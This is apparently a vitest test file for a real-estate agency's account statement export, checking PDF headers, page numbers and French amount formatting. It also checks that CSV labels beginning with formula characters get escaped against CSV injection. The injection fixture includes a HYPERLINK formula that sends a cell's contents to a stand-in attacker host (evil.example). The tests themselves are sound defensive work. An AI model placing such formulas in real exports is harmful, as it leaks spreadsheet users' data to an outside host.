import { describe, expect, it } from 'vitest';
import { pdfText } from '../test/pdf-text';
import { statementCsv, statementPdf, type StatementDocument } from './statement-export';

const base: StatementDocument = {
  agencyName: 'Palier Immobilier Nancy',
  agencyAddress: '10, place Stanislas, 54000 NANCY',
  agencyPhone: '03 83 00 10 10',
  agencyEmail: 'contact.nancy@example.org',
  agencyLegalLines: [],
  issuedOn: '2026-11-24',
  holderName: 'YALOXE CORTON Denise',
  holderAddress: ['Résidence PORT GRIMAUD', '83700 ST RAPHAEL'],
  accountNumber: '411ALOXECO',
  accountLabel: 'YALOXE CORTON Denise',
  from: '2020-01-01',
  to: '2020-12-31',
  openingBalance: '-10299.97',
  closingBalance: '-9985.56',
  totalDebit: '3000.00',
  totalCredit: '3314.41',
  lines: [],
};

function lines(count: number): StatementDocument['lines'] {
  return Array.from({ length: count }, (_, i) => ({
    date: '2020-02-11',
    label: `Règlement ${i + 1}`,
    debit: '0.00',
    credit: '1500.00',
    balance: '-9985.56',
  })) as StatementDocument['lines'];
}

describe('statement PDF header and footer', () => {
  it("prints the agency's phone and e-mail, the issue date, the currency and page numbers", async () => {
    const text = pdfText(await statementPdf({ ...base, lines: lines(3) }));
    expect(text).toContain('Tél. 03 83 00 10 10 · contact.nancy@example.org');
    expect(text).toContain('Montants en euros');
    expect(text).toContain('Édité le 24/11/2026');
    expect(text).toContain('Page 1 / 1');
    // U+202F would print as "/" in the standard fonts: the group separator is a no-break space.
    expect(text).toContain('1\u00a0500,00');
  });

  it('numbers every page of a long statement out of the total', async () => {
    const text = pdfText(await statementPdf({ ...base, lines: lines(120) }));
    const pages = [...text.matchAll(/Page (\d+) \/ (\d+)/g)].map((m) => `${m[1]}/${m[2]}`);
    expect(pages.length).toBeGreaterThan(1);
    expect(pages).toEqual(pages.map((_, i) => `${i + 1}/${pages.length}`));
  });

  it("gives the period's total debit and total credit (the manual's statement: 3 000,00 and 3 314,41)", async () => {
    const text = pdfText(await statementPdf({ ...base, lines: lines(2) }));
    expect(text).toMatch(/Total de la période\s*3\u00a0000,00\s*3\u00a0314,41/);
  });

  it('leaves the contact line out when the agency has none', async () => {
    const text = pdfText(await statementPdf({ ...base, agencyPhone: null, agencyEmail: null }));
    expect(text).not.toContain('Tél.');
    expect(text).toContain('Page 1 / 1');
  });
});

describe('statement CSV and formula cells (CSV injection, OWASP)', () => {
  const labels = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', '+33 1 02', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'Appel de fonds = 2026', 'Règlement'];
  const csv = statementCsv({
    ...base,
    lines: labels.map((label) => ({ date: '2020-02-11', label, debit: '0.00', credit: '1500.00', balance: '-9985.56' })) as StatementDocument['lines'],
  });

  it('turns every label starting with =, +, -, @, a tab or a carriage return into text with a leading quote', () => {
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";`);
    for (const start of ["'+33 1 02", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"]) expect(csv).toContain(start);
    expect(csv).not.toMatch(/;"?=HYPERLINK/);
  });

  it('leaves other labels and every amount as they are: negative balances stay numbers', () => {
    expect(csv).toContain(';Appel de fonds = 2026;0,00;1500,00;-9985,56');
    expect(csv).toContain(';Règlement;0,00;1500,00;-9985,56');
    expect(csv).toContain(';Solde antérieur;;;-10299,97');
  });
});
